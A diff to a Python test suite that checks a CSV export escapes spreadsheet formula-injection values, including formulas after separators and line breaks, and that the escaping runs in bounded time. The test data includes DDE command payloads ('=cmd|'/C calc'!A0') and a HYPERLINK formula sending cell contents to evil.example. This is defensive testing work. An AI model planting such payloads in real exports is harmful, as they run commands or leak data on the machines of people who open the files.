@@ -2,12 +2,14 @@
 
 from collections.abc import Sequence
 from datetime import datetime
+from time import monotonic
 from typing import Any
 
 import httpx
 import pytest
 
 from session_graph.access.viewer import Role
+from session_graph.exports.csv_columns import escape_after_separators
 from session_graph.exports.worker import Worker
 from session_graph.store.database import Database
 from session_graph.store.models import Account
@@ -32,12 +34,12 @@ HEADER = (
     "Channel,Actual Result,Expected Result,Agent IDN,Units,Integration"
 )
 HARMLESS = (
-    *("plain", "a=1", "1-2", "'=1", "naïve ☕", "a\tb", "", ";=1", "+1 415-555-0134"),
+    *("plain", "a=1", "1-2", "'=1", "naïve ☕", "a\tb", "", ";a", "+1 415-555-0134"),
     *('a "quoted" word', '"', "a,b", "line\nfeed", "line\r\nend", "lone\rreturn", '",\r\n"'),
 )
 FORMULAS = (
-    *("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x","y")', "-2+3,4", "=a\r=b"),
-    *("＝1", "＋1", "－1", "＠x", "\u200b=1", "\ufeff=1", "\u200b  \t -1", "\u200b\u00a0=1", "\u200b\u3000@x"),
+    *("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x","y")', "-2+3,4", "=a\rb"),
+    *("＝1", "＋1", "－1", "＠x", "\u200b=1", "\ufeff=1", "\u200b   -1", "\u200b\u00a0=1", "\u200b\u3000@x"),
     *("\u200d\u2060+1", "\u200b\u2028=1", "\u202d=1", "\u00ad=1", "\u2066=1", "+1 415-555-0134+cmd|' /C calc'!A0"),
     *("+1 2 =1", "+14155550134", "-"),
 )
@@ -102,6 +104,59 @@ async def test_a_text_that_a_spreadsheet_reads_as_a_formula_has_one_apostrophe_b
 
     assert found == ["'" + text for text in FORMULAS]
     assert plain == list(FORMULAS)
+
+
+SEPARATED = {
+    "Bob;=cmd|'/C calc'!A0": "Bob;'=cmd|'/C calc'!A0",
+    'a;=HYPERLINK("http://evil.example/?"&A1);b': 'a;\'=HYPERLINK("http://evil.example/?"&A1);b',
+    "a\t+1": "a\t'+1",
+    "a|-1|@x": "a|'-1|'@x",
+    "- booked\n- paid\r\n- gone\r+1": "'- booked\n'- paid\r\n'- gone\r'+1",
+    "=a\r=b": "'=a\r'=b",
+    "a; \u200b\u00a0=1": "a; \u200b\u00a0'=1",
+    'a;"=1"': 'a;"\'=1"',
+    "a;\n\t=1": "a;\n\t'=1",
+    "a;＝1|＋1\t－1\n＠1": "a;'＝1|'＋1\t'－1\n'＠1",
+    ";=1": ";'=1",
+    "a\n\n\nb": "a\n\n\nb",
+    "a; b | c\td\ne": "a; b | c\td\ne",
+    "a;1-2": "a;1-2",
+    "a,=1": "a,=1",
+}
+
+
+async def test_a_formula_after_a_separator_or_a_line_break_has_an_apostrophe_before_it(
+    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
+) -> None:
+    await record_texts(database, account, list(SEPARATED))
+    ask = await owner(client, account)
+
+    found, _ = await summaries(client, ask)
+    plain, _ = await summaries(client, ask, escapeFormulas=False)
+
+    assert found == list(SEPARATED.values())
+    assert plain == list(SEPARATED)
+
+
+async def test_the_first_cell_of_a_row_is_not_taken_for_text_after_a_line_break(
+    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
+) -> None:
+    await make_agent(account)
+    await record(database, account, {"phone": "+14155550134"}, {"phone": "+14155550135", "summary": "a; b"})
+
+    data = await export_csv(client, await owner(client, account), columns=["PHONE", "SUMMARY"])
+
+    assert sorted(row["Phone"] for row in parse_csv(data)) == ["+1 415-555-0134", "+1 415-555-0135"]
+
+
+@pytest.mark.parametrize("text", ["\n", "\t\n\r ", "; ", ";", "|", "\n-", ";=", '\n"'])
+def test_the_search_for_formulas_takes_time_in_proportion_to_the_text(text: str) -> None:
+    rows = (text * (2**20 // len(text))).encode()
+    start = monotonic()
+
+    escape_after_separators(rows)
+
+    assert monotonic() - start < 5
 
 
 @pytest.mark.parametrize(
